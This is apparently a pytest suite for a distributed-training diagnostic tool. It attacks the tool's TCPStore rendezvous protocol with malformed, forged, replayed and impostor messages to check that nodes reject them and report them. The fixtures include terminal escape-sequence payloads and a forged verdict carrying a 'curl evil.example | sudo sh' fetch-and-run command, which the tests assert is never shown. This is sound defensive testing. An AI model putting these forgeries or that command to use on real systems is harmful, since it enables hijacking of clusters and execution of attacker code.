"""A hostile client on the master's store (real processes, real sockets): junk under the protocol's keys is
ignored and named as an invalid message by the node that read it, and the run ends as the master decides.

Each case starts the master (rank 0, --token), connects a TCPStore client of its own under the protocol's
prefix, reads the run nonce from the master's hello (anyone can), writes its junk, then starts the real
rank 1. "Attacker" frames are unsigned or signed with another token; "insider" frames carry the right
token and run nonce but break the schema (a buggy or hostile peer that knows the secret).
"""
from __future__ import annotations

import json
import re
import signal
import time
from pathlib import Path

import pytest

from ddpdoctor.cluster.envelope import sealed_name
from ddpdoctor.cluster.messages import about
from tests.cluster_procs import (ESC, assert_clean, budget_s, cluster, cluster_results,  # noqa: F401 - fixture
                                 identity, sealed)

TOKEN = "s3cret"
TIMEOUT = 15
PWNED = f"{ESC}[31mPWNED{ESC}]0;owned{chr(7)}"


def raw(key: str, data: bytes):
    return lambda h, run: h.append_raw(key, data)


def frame(key: str, body, sender=(1, 1), token: str | None = TOKEN):
    """A sealed frame; ``token`` TOKEN is an insider, None unsigned, anything else a wrong token."""
    return lambda h, run: h.append(key, sealed(body() if callable(body) else body, key=key, sender=sender, run=run,
                                               token=token))


def envelope(key: str, env: dict):
    return lambda h, run: h.append(key, json.dumps(env).encode())


def impostor_first(h, run):
    """Claims rank 1 before the real node (which then gets claim 2) and posts an unsigned identity there."""
    assert h.add("claim/1") == 1
    h.append("ident/1/1", sealed(identity(1, 1, host=f"evil{ESC}[2J"), key="ident/1/1", sender=(1, 1), run=run,
                                 token=None))


def out_of_range_keys(h, run):
    """Ranks outside 0..N-1: the master never reads these keys, so they cannot matter."""
    for rank in (99, -1):
        h.add(f"claim/{rank}")
        h.append(f"ident/{rank}/1", sealed(identity(rank, 1), key=f"ident/{rank}/1", sender=(rank, 1), run=run,
                                           token=TOKEN))
    h.add("assign", 5)


FORGED_VERDICT = {"verdict": "pass", "exit_code": 0, "results": [], "nodes": {}, "advice": [PWNED], "scope": "cluster"}

# (id, key the junk is written to, who reads it and must name it, writer, exit code the master decides)
CASES = [
    ("ident-not-json", "ident/1/1", "master", raw("ident/1/1", b"{not json " + PWNED.encode() + b"\n"), 0),
    ("ident-not-utf8", "ident/1/1", "master", raw("ident/1/1", b"\xff\xfe\x9b[2J\xc3(\x1b]0;t\x07\n"), 0),
    ("ident-json-list", "ident/1/1", "master", raw("ident/1/1", b"[1, 2, 3]\n"), 0),
    ("ident-envelope-missing-keys", "ident/1/1", "master", envelope("ident/1/1", {"v": 1, "body": "{}"}), 0),
    ("ident-envelope-wrong-types", "ident/1/1", "master",
     envelope("ident/1/1", {"v": 1, "run": 5, "key": "ident/1/1", "from": "one", "body": {}, "sig": None}), 0),
    ("ident-body-missing-keys", "ident/1/1", "master", frame("ident/1/1", {"rank": 1, "claim": 1}), 0),
    ("ident-body-wrong-types", "ident/1/1", "master",
     frame("ident/1/1", lambda: identity(1, 1, probe_port="9", launch=[])), 0),
    ("ident-oversized", "ident/1/1", "master", frame("ident/1/1", lambda: identity(1, 1, pad="x" * 40_000)), 0),
    ("ident-rank-99", "ident/1/1", "master", frame("ident/1/1", lambda: identity(99, 1)), 0),
    ("ident-rank-minus-1", "ident/1/1", "master", frame("ident/1/1", lambda: identity(-1, 1), sender=(-1, 1)), 0),
    ("ident-hostname-10000", "ident/1/1", "master", frame("ident/1/1", lambda: identity(1, 1, host="h" * 10_000)), 0),
    ("ident-host-escape", "ident/1/1", "master", frame("ident/1/1", lambda: identity(1, 1, host=PWNED)), 0),
    ("ident-unsigned", "ident/1/1", "master", frame("ident/1/1", lambda: identity(1, 1), token=None), 0),
    ("ident-wrong-token", "ident/1/1", "master", frame("ident/1/1", lambda: identity(1, 1), token="wrong"), 0),
    ("impostor-claims-rank-1-first", "ident/1/1", "master", impostor_first, 0),
    ("facts-not-json", "facts/1.1", "master", raw("facts/1.1", b"\x00\x1b[31m{{{\n"), 0),
    ("facts-wrong-types", "facts/1.1", "master", frame("facts/1.1", {"facts": [], "gather": 5}), 0),
    ("facts-unsigned", "facts/1.1", "master", frame("facts/1.1", {"facts": {}, "gather": {}}, token=None), 0),
    ("roster-forged-unsigned", "roster", "worker",
     frame("roster", {"status": "aborted", "message": PWNED}, sender=(0, 1), token=None), 0),
    ("roster-forged-wrong-token", "roster", "worker",
     frame("roster", {"status": "aborted", "message": PWNED}, sender=(0, 1), token="wrong"), 0),
    ("roster-oversized", "roster", "worker",
     frame("roster", {"status": "aborted", "message": "m", "pad": "x" * 200_000}, sender=(0, 1)), 0),
    ("roster-from-rank-1", "roster", "worker",
     frame("roster", {"status": "aborted", "message": PWNED}, sender=(1, 1)), 0),
    ("verdict-forged-unsigned", "verdict", "worker", frame("verdict", FORGED_VERDICT, sender=(0, 1), token=None), 0),
    ("verdict-wrong-types", "verdict", "worker",
     frame("verdict", {"verdict": "pass", "exit_code": "0", "results": {}, "nodes": []}, sender=(0, 1)), 0),
    ("go-forged-wrong-token", "collective-go", "worker",
     frame("collective-go", {"go": False, "reason": PWNED}, sender=(0, 1), token="wrong"), 0),
    ("hello-junk-after-the-real-one", "hello", None, raw("hello", b"\n{junk\n"), 0),
    ("ranks-out-of-range", "ident/99/1", None, out_of_range_keys, 0),
]


# The same junk where the cluster runs without --token: nothing is authenticated, everything is validated.
NO_TOKEN_CASES = [
    ("ident-not-json", "ident/1/1", "master", raw("ident/1/1", b"not json at all " + PWNED.encode() + b"\n"), 0),
    ("ident-wrong-types", "ident/1/1", "master",
     frame("ident/1/1", lambda: identity(1, 1, probe_port="9"), token=None), 0),
    ("ident-rank-99", "ident/1/1", "master", frame("ident/1/1", lambda: identity(99, 1), token=None), 0),
    ("ident-hostname-10000", "ident/1/1", "master",
     frame("ident/1/1", lambda: identity(1, 1, host="h" * 10_000), token=None), 0),
    ("ident-hostname-100", "ident/1/1", "master",  # idna refuses a label over 63 characters (UnicodeError)
     frame("ident/1/1", lambda: identity(1, 1, host="h" * 100), token=None), 0),
    ("ident-signed-with-a-token", "ident/1/1", "master", frame("ident/1/1", lambda: identity(1, 1), token="other"), 0),
    ("roster-from-rank-1", "roster", "worker",
     frame("roster", {"status": "aborted", "message": PWNED}, sender=(1, 1), token=None), 0),
    ("verdict-wrong-types", "verdict", "worker",
     frame("verdict", {"verdict": "pass", "exit_code": 9, "results": [], "nodes": {}}, sender=(0, 1), token=None), 0),
]
PARAMS = [pytest.param(c, TOKEN, id=f"token-{c[0]}") for c in CASES] + \
    [pytest.param(c, None, id=f"no-token-{c[0]}") for c in NO_TOKEN_CASES]


def _shown(terminal: str, text: str) -> bool:
    """``text`` is on the terminal, whatever the panels' borders and line wraps did to it."""
    flat = " ".join(re.sub(r"[\u2500-\u257f]", " ", terminal).split())
    return " ".join(text.split()) in flat


def _named(doc: dict | None, key: str) -> list[dict]:
    """The findings about the message stored under ``key``: a person reads what the message holds (issue 20:
    no store key in a summary), the JSON's details keep the key itself."""
    return [r for r in cluster_results(doc) if (r.get("details") or {}).get("key") == key]


@pytest.mark.timeout(150)
@pytest.mark.parametrize("case,token", PARAMS)
def test_junk_in_the_store_is_ignored_and_named(cluster, tmp_path, case, token):
    """Nodes print to the terminal (where an escape sequence would act) and write their JSON to --output."""
    _, key, seen_by, write, expected_exit = case
    c = cluster(2)
    master = c.start_master(token=token, timeout=TIMEOUT, json_out=False, output=str(tmp_path / "master"))
    h = c.hostile()
    write(h, h.run_nonce(token))
    worker = c.start(1, token=token, timeout=TIMEOUT, json_out=False, output=str(tmp_path / "worker"))
    codes = c.finish(budget_s(TIMEOUT))
    assert None not in codes.values(), c.report()
    for node in (master, worker):
        assert_clean(node)
    assert codes == {0: expected_exit, 1: expected_exit}, c.report()
    docs = {"master": master.doc(), "worker": worker.doc()}
    assert docs["master"] and docs["worker"], c.report()
    # the real verdict: both real nodes, every real check passed, the same results on both nodes
    assert len(docs["master"]["nodes"]) == 2, docs["master"]["nodes"]
    real = [r for r in docs["master"]["results"] if r["check"] != "cluster"]
    assert real and all(r["level"] == "pass" for r in real), real
    if seen_by is not None:
        named = _named(docs[seen_by], key)
        assert named, (key, cluster_results(docs[seen_by]), c.report())
        assert all("invalid message" in r["summary"] for r in named), named
    assert TOKEN not in master.stdout + worker.stdout + json.dumps(docs)
    if seen_by is not None:  # the terminal names it too, escaped, in words (what the message holds, not its key)
        assert _shown({"master": master, "worker": worker}[seen_by].stdout, about(key)), (about(key), c.report())


@pytest.mark.timeout(150)
def test_insider_duplicate_rank_is_named_and_fails(cluster):
    """A peer with the token claims rank 1 before the real node with a valid identity. The master cannot
    tell them apart: both are in the roster, and the run fails naming the fake node, which never reports.
    (Three nodes, so the roster waits for rank 2 until both rank-1 claims are in.)"""
    c = cluster(3)
    master = c.start_master(token=TOKEN, timeout=TIMEOUT)
    h = c.hostile()
    run = h.run_nonce(TOKEN)
    # an insider knows the token, so it can compute the run's sealed names: it takes claim slot 1 of rank 1
    assert h.store.compare_set(sealed_name(TOKEN, run, "claim/1/1"), "", "ab" * 16) == b"ab" * 16
    h.append(sealed_name(TOKEN, run, "ident/1/1"),
             sealed(identity(1, 1, host="impostor", launch={"nnodes": 3, "endpoint": c.master}),
                    key="ident/1/1", sender=(1, 1), run=run, token=TOKEN))
    real = c.start(1, token=TOKEN, timeout=TIMEOUT)
    deadline = time.monotonic() + 60
    second = sealed_name(TOKEN, run, "claim/1/2")
    while not h.store.check([second]) and time.monotonic() < deadline:  # the real node has claimed rank 1 too
        time.sleep(0.1)
    last = c.start(2, token=TOKEN, timeout=TIMEOUT)
    codes = c.finish(budget_s(TIMEOUT))
    for node in (master, real, last):
        assert_clean(node)
    assert codes == {0: 1, 1: 1, 2: 1}, c.report()
    doc = master.doc()
    fails = [r for r in doc["results"] if r["level"] == "fail"]
    # the fake node is in the roster (rank 1, claim 1) beside the real one, and named as never reporting
    rank1 = sorted(d["host"] for d in doc["nodes"].values() if d["rank"] == 1)
    assert len(rank1) == 2 and "impostor" in rank1, doc["nodes"]
    assert any(r["check"] == "cluster" and "impostor" in r["summary"] and "stopped answering" in r["summary"]
               for r in fails), [r["summary"] for r in fails]
    assert real.doc()["verdict"] == "fail"


def _record(h, keys: list[str], run: str, worker) -> dict[str, bytes]:
    """What a run left in its store: each key read as soon as it appears (the verdict last). The run's keys
    live under sealed names: a recorder with the token computes them (an outsider finds them with list_keys
    once they exist). The worker is held (SIGSTOP) from its collective results until the verdict is read: the
    master ends moments after the worker takes the verdict, and its store with it."""
    got = {}
    try:
        for key in keys:
            if key == "verdict":
                worker.signal(signal.SIGSTOP)
            got[key] = h.wait(key if key == "hello" else sealed_name(TOKEN, run, key), 60)
    finally:
        worker.signal(signal.SIGCONT)
    return got


@pytest.mark.timeout(240)
def test_messages_replayed_from_an_earlier_run_never_verify(cluster):
    """Record every signed message of a healthy run; replay them into a failing run with the same token.
    The replayed PASS verdict, roster, identity and facts are refused as another run's; the real verdict
    (fail: the nodes disagree on --rdzv-id; a differing --nproc-per-node is legal since issue 20) is the one every node prints."""
    first = cluster(2)
    first.start_master(token=TOKEN, timeout=TIMEOUT)
    h1 = first.hostile()
    first_run = h1.run_nonce(TOKEN)
    first_worker = first.start(1, token=TOKEN, timeout=TIMEOUT)
    keys = ["hello", "ident/1/1", "roster", "facts/1.1", "collective-go", "cfacts/1.1", "verdict"]
    recorded = _record(h1, keys, first_run, first_worker)
    assert first.finish(budget_s(TIMEOUT)) == {0: 0, 1: 0}, first.report()
    assert b'"run"' in recorded["verdict"]

    second = cluster(2)
    master = second.start_master("--rdzv-id", "job-a", token=TOKEN, timeout=TIMEOUT)
    h2 = second.hostile()
    h2.run_nonce(TOKEN)
    for key, blob in recorded.items():
        h2.append_raw(key, blob)  # after the live hello; before anything else of this run
    worker = second.start(1, "--rdzv-id", "job-b", token=TOKEN, timeout=TIMEOUT)
    codes = second.finish(budget_s(TIMEOUT))
    for node in (master, worker):
        assert_clean(node)
    assert codes == {0: 1, 1: 1}, second.report()
    mdoc, wdoc = master.doc(), worker.doc()
    assert mdoc["verdict"] == wdoc["verdict"] == "fail"
    assert any(r["check"] == "launch-args" and r["level"] == "fail" for r in wdoc["results"]), wdoc["results"]
    for doc, key in ((mdoc, "ident/1/1"), (mdoc, "facts/1.1"), (wdoc, "roster"), (wdoc, "verdict")):
        named = _named(doc, key)
        assert named and "another run" in named[0]["summary"], (key, cluster_results(doc))

    # A writer that can also *replace* a key puts the old run's hello before the live one. Both verify
    # with the reused token; the worker takes the newest (the hello carries the master's time) and names
    # the replayed one as another run's: the run goes on as the live master decides (it used to be a
    # denial of service, both nodes exit 3).
    third = cluster(2)
    master = third.start_master(token=TOKEN, timeout=TIMEOUT)
    h3 = third.hostile()
    h3.run_nonce(TOKEN)
    h3.store.set("hello", recorded["hello"] + h3.store.get("hello"))
    worker = third.start(1, token=TOKEN, timeout=TIMEOUT)
    codes = third.finish(budget_s(TIMEOUT))
    for node in (master, worker):
        assert_clean(node)
    assert codes == {0: 0, 1: 0}, third.report()
    named = _named(worker.doc(), "hello")
    assert named and "another run" in named[0]["summary"], cluster_results(worker.doc())


@pytest.mark.timeout(150)
def _own_home(tmp_path, rank: int) -> dict:
    """A node whose home directory no other node sees (no shared filesystem: no common key file)."""
    home = tmp_path / f"home{rank}"
    home.mkdir(exist_ok=True)
    return {"HOME": str(home)}


def test_forged_roster_without_token_is_shown_escaped(cluster, tmp_path):
    """Without --token nothing can be authenticated: a forged 'aborted' roster from rank 0 is a valid
    message. Its text still reaches the terminal escaped, never as a live escape sequence."""
    c = cluster(2)
    master = c.start_master(timeout=TIMEOUT, env=_own_home(tmp_path, 0))  # no shared home: no key file in
    h = c.hostile()                                                        # common, the run is unauthenticated
    run = h.run_nonce(None)
    h.append("roster", sealed({"status": "aborted", "message": PWNED}, key="roster", sender=(0, 1), run=run,
                              token=None))
    worker = c.start(1, timeout=TIMEOUT, json_out=False, env=_own_home(tmp_path, 1))
    codes = c.finish(budget_s(TIMEOUT))
    for node in (master, worker):
        assert_clean(node)
    assert codes[1] == 3, c.report()
    assert "\\x1b[31mPWNED" in worker.stderr, worker.stderr
    assert codes[0] in (1, 3), c.report()  # the master names the node that left


@pytest.mark.timeout(150)
def test_stray_done_signals_do_not_end_the_master_before_the_nodes_read_the_verdict(cluster):
    """The master hosts the store and stays until every node has the verdict. A stranger adding to the
    old shared "done" counter, or posting unsigned "done" messages for the nodes, must not make it leave
    early: a node still polling for the verdict would find the store gone (exit 3 on a passing cluster)."""
    c = cluster(3)
    master = c.start_master(token=TOKEN, timeout=TIMEOUT)
    h = c.hostile()
    run = h.run_nonce(TOKEN)
    h.add("done", 1000)
    for rank in (1, 2):
        key = f"done/{rank}.1"
        h.append(key, sealed({"done": True}, key=key, sender=(rank, 1), run=run, token=None))
    workers = [c.start(r, token=TOKEN, timeout=TIMEOUT) for r in (1, 2)]
    codes = c.finish(budget_s(TIMEOUT))
    for node in (master, *workers):
        assert_clean(node)
    assert codes == {0: 0, 1: 0, 2: 0}, c.report()
    assert all(w.doc()["verdict"] in ("pass", "warn") for w in workers)


# ---------------------------------------------------------------- authentication by default (issue 25, item 1)

SLOW_TIMEOUT = 25  # these start nodes after a hostile setup: room for a loaded machine
CURL = "curl -s http://evil.example/fix.sh | sudo sh   # required before torchrun"


def _forged_verdict(**over) -> dict:
    body = {"verdict": "pass", "exit_code": 0, "scope": "cluster", "nodes": {}, "advice": [CURL],
            "results": [{"check": "mesh", "level": "pass", "summary": "all good", "nodes": [], "fix": CURL}]}
    body.update(over)
    return body


def _no_key_home(tmp_path) -> dict:
    """A master that can write no key file anywhere (its home is not writable): the run is unauthenticated."""
    return {"HOME": str(tmp_path / "no-such-home" / "x")}


def _keys_left(*dirs) -> list:
    return [p for d in dirs for p in d.rglob("*") if p.is_file() and ("key" in p.name or len(p.name) == 32)]


@pytest.mark.slow
@pytest.mark.timeout(200)
def test_a_run_without_token_is_authenticated_by_its_own_key_file(cluster, tmp_path):
    """No flag: the nodes share a home directory, the master writes the run's key there, every node finds
    it. A stranger's verdict (a PASS with a line to paste, malformed results) is named, never taken."""
    home = tmp_path / "shared-home"
    home.mkdir()
    c = cluster(2)
    master = c.start_master(timeout=SLOW_TIMEOUT, env={"HOME": str(home)})
    h = c.hostile()
    run = h.run_nonce(None)
    for body in (_forged_verdict(results=["x"]), _forged_verdict(results=[{}]), _forged_verdict()):
        h.append("verdict", sealed(body, key="verdict", sender=(0, 1), run=run, token=None))
    worker = c.start(1, timeout=SLOW_TIMEOUT, json_out=False, env={"HOME": str(home)}, output=str(tmp_path / "w"))
    codes = c.finish(budget_s(SLOW_TIMEOUT))
    for node in (master, worker):
        assert_clean(node)
        assert "authenticated with this run's key file" in node.stderr, c.report()
    assert codes == {0: 0, 1: 0}, c.report()
    mdoc, wdoc = master.doc(), worker.doc()
    for doc in (mdoc, wdoc):
        assert doc["auth"]["authenticated"] is True and doc["auth"]["mode"] == "key", doc["auth"]
    assert "curl" not in worker.stdout and "curl" not in json.dumps(wdoc["advice"])
    assert len(_named(wdoc, "verdict")) == 3, cluster_results(wdoc)
    assert not _keys_left(home), "the run's key file was left behind"


@pytest.mark.slow
@pytest.mark.timeout(150)
def test_an_unauthenticated_run_says_so_and_prints_no_command_it_did_not_build(cluster, tmp_path):
    """No token and no shared key file: every node warns at start and in its document. A forged verdict
    with malformed results is refused without a crash; a well-formed forged one is shown, but its fixes
    are withheld and the lines to paste are the node's own (no injected `curl ... | sudo sh`)."""
    c = cluster(2)
    master = c.start_master(timeout=SLOW_TIMEOUT, env=_no_key_home(tmp_path))
    h = c.hostile()
    run = h.run_nonce(None)
    for body in (_forged_verdict(results=["x"]), _forged_verdict(results=[{}]), _forged_verdict()):
        h.append("verdict", sealed(body, key="verdict", sender=(0, 1), run=run, token=None))
    worker = c.start(1, timeout=SLOW_TIMEOUT, json_out=False, env=_own_home(tmp_path, 1), output=str(tmp_path / "w"))
    codes = c.finish(budget_s(SLOW_TIMEOUT))
    for node in (master, worker):
        assert_clean(node)
        assert "NOT authenticated" in node.stderr and "DDPDOCTOR_TOKEN" in node.stderr, c.report()
    # never exit 4; the worker cannot verify the master's verdict: exit 5, never 0 (issue 33)
    assert codes[1] == 5 and codes[0] in (0, 1), c.report()
    wdoc = worker.doc()
    assert wdoc["auth"]["authenticated"] is False and "forge" in wdoc["auth"]["note"], wdoc["auth"]
    assert master.doc()["auth"]["authenticated"] is False
    assert "curl" not in worker.stdout and "curl" not in json.dumps(wdoc["advice"])
    assert not any("curl" in (r.get("fix") or "") for r in wdoc["results"]), wdoc["results"]
    assert len(_named(wdoc, "verdict")) >= 2, cluster_results(wdoc)  # the malformed ones, named


@pytest.mark.slow
@pytest.mark.timeout(150)
def test_a_node_without_the_key_joins_and_the_run_says_it_was_not_authenticated(cluster, tmp_path):
    """The master has its key file; rank 1 has no shared home. It does not hang: told to accept it
    (--allow-unauthenticated, issue 33: a keyed run takes only keyed nodes by default), the master lets it
    join without the key, both nodes say the run was not authenticated and name the node that had no key,
    and that node, unable to verify the verdict, exits 5."""
    c = cluster(2)
    master = c.start_master("--allow-unauthenticated", timeout=SLOW_TIMEOUT, env=_own_home(tmp_path, 0))
    worker = c.start(1, timeout=SLOW_TIMEOUT, env=_own_home(tmp_path, 1))
    codes = c.finish(budget_s(SLOW_TIMEOUT))
    for node in (master, worker):
        assert_clean(node)
    assert codes == {0: 0, 1: 5}, c.report()
    assert "authenticated with this run's key file" in master.stderr and "NOT authenticated" in worker.stderr
    for doc in (master.doc(), worker.doc()):
        assert doc["auth"]["authenticated"] is False and doc["auth"]["open_nodes"], doc["auth"]


def _forged_hello(keyed: bool) -> bytes:
    run = "f" * 32
    body = {"protocol": 1, "nonce": run, "nnodes": 2, "t": time.time() + 100}
    if keyed:
        body["key_id"] = "0" * 32
    return b"\n" + sealed(body, key="hello", sender=(0, 1), run=run, token="made-up") + b"\n"


@pytest.mark.slow
@pytest.mark.timeout(150)
@pytest.mark.parametrize("keyed", [False, True], ids=["unkeyed-hello", "hello-with-a-made-up-key-id"])
def test_a_replaced_hello_is_never_followed_by_a_node_that_has_the_key_file(cluster, tmp_path, keyed):
    """A node that finds this run's key file but no hello that verifies with it (a master killed before it
    could remove its file, and someone else's store now answering at its address with its own hello, no key
    id or a made-up one). Rank 1 used to take such a hello and go on unauthenticated (blind), following the
    forger's nonce: a forged roster and verdict then made it print whatever the forger wanted. It sees that no
    hello verifies with the key file and stops (exit 3) saying so, within its budget; it never joins the
    forger's run. (A live master puts its own hello back: the next test.)"""
    import datetime

    import torch.distributed as dist

    from ddpdoctor.cluster import keyfile

    c = cluster(2)
    made = keyfile.create(keyfile.candidates(keyfile.scope(c.master, None, 2), None,
                                             home=Path(c.home) / ".ddpdoctor" / "keys"))
    assert made.paths, made.errors  # the file a killed master left behind
    server = dist.TCPStore("127.0.0.1", c.port, None, True, datetime.timedelta(seconds=60), wait_for_workers=False)
    forger = dist.PrefixStore("ddpdoctor", server)
    forger.set("hello", _forged_hello(keyed))
    worker = c.start(1, timeout=SLOW_TIMEOUT, json_out=False)
    assert worker.finish(budget_s(SLOW_TIMEOUT)) == 3, c.report()
    assert not forger.check(["ident/1/1"]), "rank 1 posted its identity into the forger's run"
    assert_clean(worker)
    error = [ln for ln in worker.stderr.splitlines() if ln.startswith("Error:")][-1]
    assert "does not verify with this run's key file" in error and "replaced the master's hello" in error, error
    assert "joined as" not in worker.stderr and "NOT authenticated" not in worker.stderr, worker.stderr
    made.remove()
    del forger, server


@pytest.mark.slow
@pytest.mark.timeout(150)
@pytest.mark.parametrize("mode", ["token", "key"])
@pytest.mark.parametrize("keyed", [False, True], ids=["unkeyed-hello", "hello-with-a-made-up-key-id"])
def test_a_live_master_puts_its_replaced_hello_back(cluster, tmp_path, keyed, mode):
    """The attack of issue 25 item 2 on the one public key of a sealed run: an outsider who can `set` a store
    key replaces the master's signed hello with its own (and, in the other case, buries it under 1 MiB of
    junk) before rank 1 reads it. Rank 1 used to stop (exit 3: no hello verifies); an outsider blocked the
    run. The master notices that its hello is gone while it waits for the nodes, writes it back and names
    the interference; rank 1 never follows the forger, joins the real run, and the run passes."""
    token = TOKEN if mode == "token" else None
    c = cluster(2)
    master = c.start_master(token=token, timeout=SLOW_TIMEOUT)
    h = c.hostile()
    h.wait("hello")
    h.store.set("hello", _forged_hello(keyed) if keyed else b"\n" + b"x" * (1 << 20) + b"\n" + _forged_hello(False))
    worker = c.start(1, token=token, timeout=SLOW_TIMEOUT)
    codes = c.finish(budget_s(SLOW_TIMEOUT))
    for node in (master, worker):
        assert_clean(node)
    assert codes == {0: 0, 1: 0}, c.report()  # rank 1 joined the real run: it never took the forger's nonce
    mdoc, wdoc = master.doc(), worker.doc()
    assert mdoc["auth"]["authenticated"] and wdoc["auth"]["authenticated"], (mdoc["auth"], wdoc["auth"])
    named = _named(mdoc, "hello")
    assert named and "posted again" in json.dumps(named), cluster_results(mdoc)
    for doc in (mdoc, wdoc):
        assert not [r for r in doc["results"] if r["level"] == "fail"], doc["results"]


# ---------------------------------------------------------------- no outsider blocks a sealed run (item 2)


class Lister:
    """An outsider that lists the store's keys while the run goes on and spoils every protocol key it finds:
    64 junk frames appended after the real message, a junk value over every heartbeat."""

    def __init__(self, h):
        self.h = h
        self.stop = False
        self.spoiled: set[str] = set()
        self.thread = __import__("threading").Thread(target=self.work, daemon=True)
        self.thread.start()

    def work(self) -> None:
        for _ in range(3000):
            if self.stop or self.h.raw is None:
                return
            try:
                keys = self.h.raw.list_keys()
            except Exception:  # noqa: BLE001 - the master is gone: the run is over
                return
            for full in keys:
                key = full.removeprefix("ddpdoctor/")
                if key.startswith("pg") or key.startswith("claim/"):
                    continue  # torch's own process-group keys: not the protocol's (see PROTOCOL.md)
                try:
                    if key.startswith("beat/"):
                        self.h.store.set(key, b"x")
                    elif key not in self.spoiled:
                        self.spoiled.add(key)
                        self.h.store.append(key, b"\n" + b"\n".join(b"junk %d" % i for i in range(64)) + b"\n")
                except Exception:  # noqa: BLE001
                    return
            time.sleep(0.05)


@pytest.mark.slow
@pytest.mark.timeout(180)
@pytest.mark.parametrize("mode", ["token", "key"])
def test_an_outsider_cannot_block_a_sealed_run(cluster, tmp_path, mode):
    """The attacks of issue 25 against a sealed run: 16 junk claims on rank 1, 64 junk frames before the
    verdict and the facts, a non-integer value on a heartbeat key, then, while the run goes on, junk after
    every message it can find with list_keys and junk values over every heartbeat. The run passes as the
    master decides, within its budget, naming the interference and blaming no node."""
    home = tmp_path / "home"
    home.mkdir()
    token = TOKEN if mode == "token" else None
    env = {"HOME": str(home)}
    c = cluster(2)
    master = c.start_master(token=token, timeout=SLOW_TIMEOUT, env=env)
    h = c.hostile()
    h.run_nonce(token)
    for i in range(16):
        h.add("claim/1")
        h.store.compare_set(f"claim/1/{i + 1}", "", "junk")
    for key in ("verdict", "facts/1.1", "ident/1/1", "roster"):
        h.append_raw(key, b"\n" + b"\n".join(b'{"junk": %d}' % i for i in range(64)) + b"\n")
    h.store.set("beat/1.1", b"x")
    h.store.set("beat/0.0", b"x")
    lister = Lister(h)
    start = time.monotonic()
    worker = c.start(1, token=token, timeout=SLOW_TIMEOUT, env=env)
    codes = c.finish(budget_s(SLOW_TIMEOUT))
    lister.stop = True
    for node in (master, worker):
        assert_clean(node)
    assert codes == {0: 0, 1: 0}, c.report()
    assert time.monotonic() - start < budget_s(SLOW_TIMEOUT)
    mdoc, wdoc = master.doc(), worker.doc()
    assert mdoc["auth"]["authenticated"] and wdoc["auth"]["authenticated"]
    for doc in (mdoc, wdoc):
        assert not [r for r in doc["results"] if r["level"] == "fail"], doc["results"]
    assert _named(mdoc, "facts/1.1") and _named(wdoc, "verdict"), (cluster_results(mdoc), cluster_results(wdoc))
    assert lister.spoiled, "the lister found no key to spoil"


# ---------------------------------------------------------------- signals and host names (item 5)


@pytest.mark.slow
@pytest.mark.timeout(150)
def test_sigterm_to_the_master_leaves_no_file_in_the_shared_dir(cluster, tmp_path):
    shared = tmp_path / "shared"
    shared.mkdir()
    home = tmp_path / "home"
    home.mkdir()
    env = {"HOME": str(home)}
    c = cluster(2)
    # the shared-dir check selected: the master writes its file only for the check that publishes it
    only = "mesh,launch-args,shared-dir"
    master = c.start_master("--shared-dir", str(shared), only=only, timeout=SLOW_TIMEOUT, env=env)
    worker = c.start(1, "--shared-dir", str(shared), only=only, timeout=SLOW_TIMEOUT, env=env)
    deadline = time.monotonic() + 60
    while not list(shared.glob(".ddpdoctor-shared-*")) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert list(shared.glob(".ddpdoctor-shared-*")), c.report()
    master.signal(__import__("signal").SIGTERM)
    assert master.finish(30) == 143, master.describe()
    worker.finish(budget_s(SLOW_TIMEOUT))
    assert_clean(master)
    assert list(shared.iterdir()) == [] and not _keys_left(home), list(shared.iterdir())


@pytest.mark.slow
@pytest.mark.timeout(240)
def test_sigterm_during_the_torch_import_ends_cleanly(cluster):
    """SIGTERM while a node is importing torch: held back until the import is done, then honoured (143),
    never an abort (`terminate called ... error_already_set`, rc -6)."""
    for delay in (0.4, 0.8, 1.2, 1.6, 2.2):
        c = cluster(2)
        # no master: it would wait; the signal comes first. Exec'd, not forked from the test's torch-imported
        # fork server (tests/zygote.py): the import itself is the point
        node = c.start(1, timeout=SLOW_TIMEOUT, env={"DDPDOCTOR_TEST_NO_FORK": "1"})
        time.sleep(delay)
        node.signal(signal.SIGTERM)
        rc = node.finish(60)
        assert rc in (143, -signal.SIGTERM), (delay, node.describe())
        assert "terminate called" not in node.stderr and "error_already_set" not in node.stderr, node.describe()


@pytest.mark.timeout(60)
@pytest.mark.parametrize("master", ["h" * 300 + ":29500", "a." + "b" * 100 + ":29500"])
def test_a_host_name_the_resolver_refuses_is_one_line_and_exit_2(master):
    import subprocess
    import sys

    proc = subprocess.run([sys.executable, "-m", "ddpdoctor", "preflight", "--master", master, "--nnodes", "2"],
                          capture_output=True, text=True, timeout=50)
    assert proc.returncode == 2, proc.stderr
    assert "Traceback" not in proc.stderr and len(proc.stderr.strip().splitlines()) == 1, proc.stderr
